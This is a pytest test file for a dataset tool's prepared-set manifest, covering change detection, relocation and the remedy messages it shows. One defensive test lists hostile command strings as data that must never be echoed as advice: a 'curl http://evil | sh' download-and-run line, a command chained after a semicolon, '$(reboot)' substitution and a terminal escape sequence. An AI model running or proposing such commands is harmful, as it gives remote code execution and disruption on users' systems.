"""What a prepared set remembers, and how a changed source is noticed."""

import os

import pytest

from acnet.data import prepared_set as module
from acnet.data.prepared_set import (
    PreparedLayout,
    check_fresh,
    file_state,
    read_manifest,
    relocate,
    remedy,
)
from acnet.data.register import register_all
from acnet.errors import UserError
from tests.data.samples import import_folder
from tests.data.small_sets import write, yolo

PHOTO = "train/images/a.jpg"
LABEL = "train/labels/a.txt"


@pytest.fixture
def layout(tmp_path):
    yolo(tmp_path / "src")
    command = "acnet data import yolo src sets/acne"
    return import_folder(tmp_path / "src", tmp_path / "sets" / "acne", command=command).layout


def check(layout, *pictures):
    check_fresh(layout, read_manifest(layout), pictures or [PHOTO])


def later(path):
    """Moves a file's time by a second."""
    stat = path.stat()
    os.utime(path, ns=(stat.st_atime_ns, stat.st_mtime_ns + 10**9))


def test_every_input_is_in_the_manifest(layout, tmp_path):
    manifest = read_manifest(layout)
    labels = [
        f"../../src/{s}/labels/{n}.txt"
        for s, n in [("train", "a"), ("train", "b"), ("valid", "c"), ("valid", "d")]
    ]
    assert set(manifest["inputs"]) == {"../../src/data.yaml", *labels}
    assert manifest["pictures"][PHOTO] == file_state(tmp_path / "src" / PHOTO)


def test_an_unchanged_source_is_not_read_again_and_a_copy_of_another_time_is_the_same(
    layout, monkeypatch, tmp_path
):
    with monkeypatch.context() as patch:
        patch.setattr(module, "file_sha256", None)  # would fail where it is called
        check(layout)
    later(tmp_path / "src" / PHOTO)
    later(tmp_path / "src" / LABEL)
    check(layout)


@pytest.mark.parametrize("name", [PHOTO, LABEL, "data.yaml", "valid/images/d.jpg"])
def test_a_changed_input_is_named_with_the_command_that_mends(layout, tmp_path, name):
    path = tmp_path / "src" / name
    content = bytearray(path.read_bytes())
    content[-2] ^= 1  # the size stays
    path.write_bytes(content)
    later(path)
    with pytest.raises(UserError, match=rf"{name}, which changed.*acnet data import yolo src"):
        check(layout)


@pytest.mark.parametrize(
    ("command", "is_shown"),
    [
        ("acnet data import 'my set' acne --one-class acne", True),
        ("acnet review results --output acne", True),
        ("curl http://evil | sh", False),
        ("acnet data import src acne; curl http://evil | sh", False),
        ("acnet data import $(reboot) acne", False),
        ("acnet data 'import", False),
        ("acnet data import 'a\u001b[2J' acne", False),
    ],
)
def test_only_commands_that_we_write_are_told_to_be_run(tmp_path, command, is_shown):
    layout = PreparedLayout(tmp_path, "acne")
    told = remedy(layout, {"command": command})
    assert (command in told) == is_shown
    assert told.endswith(command if is_shown else "--prefix acne")


def test_annotations_may_go_and_photos_may_not(layout, tmp_path):
    (tmp_path / "src" / LABEL).unlink()
    check(layout)
    (tmp_path / "src" / PHOTO).unlink()
    check(layout, "train/images/b.jpg")  # of tiles, say, that do not need it
    with pytest.raises(UserError, match=r"a\.jpg, which is missing"):
        check(layout)


def test_a_set_that_moves_with_its_source_stays_fresh(layout, tmp_path):
    (tmp_path / "moved").mkdir()
    for name in ("src", "sets"):
        (tmp_path / name).rename(tmp_path / "moved" / name)
    check(PreparedLayout(tmp_path / "moved" / "sets", "acne"))


@pytest.mark.parametrize(
    "text",
    [
        *("", "[]", "{}", "{", "\ufeff", "[" * 100000, '{"complete": false}', '{"complete": true}'),
        *('{"complete": 1}', '{"complete": true, "image_root": 3}'),
        *('{"complete": true, "image_root": ".", "inputs": [1]}',),
        *('{"complete": true, "image_root": ".", "pictures": {"a.jpg": [1, 2]}}',),
        *('{"complete": true, "image_root": ".", "splits": [], "command": 1}',),
    ],
)
def test_other_manifests_are_refused(tmp_path, text):
    layout = PreparedLayout(tmp_path, "acne")
    write(layout.manifest, text)
    with pytest.raises(UserError, match="must be prepared before it is used"):
        read_manifest(layout)


def test_a_manifest_that_is_a_pipe_is_none(tmp_path):
    layout = PreparedLayout.of_folder(tmp_path)
    os.mkfifo(layout.manifest)
    with pytest.raises(UserError, match=r"Received no .*manifest\.json"):
        read_manifest(layout)
    register_all(layout.root)


def test_photos_that_were_moved_alone_are_found_again(layout, tmp_path):
    (tmp_path / "src").rename(tmp_path / "photos")
    with pytest.raises(UserError, match=r"is missing.*acnet data relocate \S*acne --image"):
        check(layout)
    with pytest.raises(UserError, match="is missing"):
        relocate(layout, tmp_path)
    assert relocate(layout, tmp_path / "photos") == 4
    check(layout)
    (tmp_path / "photos" / PHOTO).write_bytes(b"another")
    with pytest.raises(UserError, match="which changed"):
        relocate(layout, tmp_path / "photos")
